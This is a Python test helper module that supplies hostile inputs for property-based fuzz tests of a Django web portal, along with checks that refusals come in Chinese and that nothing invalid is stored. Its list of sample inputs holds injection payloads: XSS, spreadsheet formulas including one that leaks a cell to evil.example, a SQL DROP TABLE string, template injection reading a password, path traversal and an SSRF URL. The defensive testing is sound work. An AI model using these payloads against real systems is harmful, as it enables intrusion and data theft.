"""Hostile input for the property-based tests (hypothesis): what people paste, what scripts send.

`hostile_text()` mixes plain Chinese with control characters, NUL, right-to-left marks, emoji,
HTML/JS, spreadsheet formulas, whitespace only and very long strings; `hostile_number()` and
`hostile_date()` are what arrives in a number or date box; `bad_id()` is what arrives where a
primary key is expected. The assertions say what every app owes such input: no server error, a
Chinese message for a refusal, nothing stored when refused, and valid text stored exactly."""

import re

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from cppcc_portal.core.text import CONTROL_CHARACTERS

# Function-scoped fixtures (db, client, personas) are built once per test, not per example: each
# example checks row counts before and after itself, so they need not be fresh.
FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,  # the same examples every run: a CI failure can be replayed locally
)

CJK = re.compile(r"[\u4e00-\u9fff]")

NASTY = [
    "",
    " ",
    "\u3000\u3000",  # ideographic spaces only
    "\t\n \r\n",
    "\x00",
    "关于\x00教育的建议",
    "关于\x07\x1b[31m教育\x08的建议",
    "关于\x0c分页符的建议书",
    "\u202e关于教育的建议\u202c",  # right-to-left override
    "\u200f\u200e\u200b\ufeff关于零宽字符的建议",
    "关于🎓👩‍🏫教育🇨🇳的建议",
    "<script>alert('xss')</script>关于教育的建议",
    '"><img src=x onerror=alert(1)>关于教育',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1关于公式的建议",
    "-2+3关于公式的建议",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE proposals_proposal; --",
    "{{ request.user.password }}{% debug %}",
    "%s%s%s%n关于格式串",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    '<img src="http://127.0.0.1:9/ssrf.png">关于图片',
    "ئۇيغۇرچە تەكلىپ",  # Uyghur, right to left
    "²",  # str.isdigit() says yes, int() says no
    "第①号",
    "１２３",  # full-width digits
    "A" * 5000,
    "关" * 100_001,
]

_any_char = st.characters(codec="utf-8")  # every code point a browser can send (no lone surrogates)
_cjk = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FA5)
_control = st.sampled_from([chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32), 127]])


def hostile_text(max_size=300):
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(_any_char, max_size=max_size),
        st.text(_cjk, min_size=1, max_size=max_size),
        st.builds(lambda a, c, b: a + c + b, st.text(_cjk, min_size=3, max_size=20), _control, st.text(_cjk, max_size=20)),
    )


def clean_text(min_size=5, max_size=120):
    """Text every field must accept and store exactly: any script, emoji and marks, no control
    characters, not blank at either end (CharField strips)."""
    alphabet = st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zs", "Zl", "Zp"])
    return st.text(alphabet, min_size=min_size, max_size=max_size)


def hostile_number():
    return st.one_of(
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.sampled_from(["", " ", "abc", "1e309", "NaN", "inf", "-0", "0x1F", "１２", "一百", "3.5", "2" * 400, "\x00"]),
    )


def hostile_date():
    return st.one_of(
        st.sampled_from(["", "2026-02-30", "2026-13-01", "0000-00-00", "9999-12-31", "10000-01-01", "昨天", "2026/1/1", "\x00"]),
        st.dates().map(str),
        st.text(_any_char, max_size=20),
    )


def bad_id():
    return st.one_of(
        st.sampled_from(["", "abc", "-1", "0", "1.5", "99999999999999999999", "１", "1 OR 1=1", "\x00", "[]"]),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
    )


def has_control(text):
    return bool(CONTROL_CHARACTERS.search(text))


def speaks_chinese(messages):
    """Every message of a refusal is written in Chinese."""
    messages = [str(m) for m in messages]
    return bool(messages) and all(CJK.search(m) for m in messages)


def form_messages(form):
    return [m for errors in form.errors.values() for m in errors]


def page_messages(response):
    """The form errors and flash messages a re-rendered page shows."""
    found = []
    for form in _forms_in(response.context):
        found += form_messages(form)
    for message in response.context.get("messages", []) if response.context else []:
        found.append(str(message))
    return found


def _forms_in(context):
    from django import forms

    if not context:
        return []
    seen = []
    layers = context if isinstance(context, list) else [context]
    for layer in layers:
        for value in layer.flatten().values():
            if isinstance(value, forms.BaseForm) and value not in seen:
                seen.append(value)
    return seen
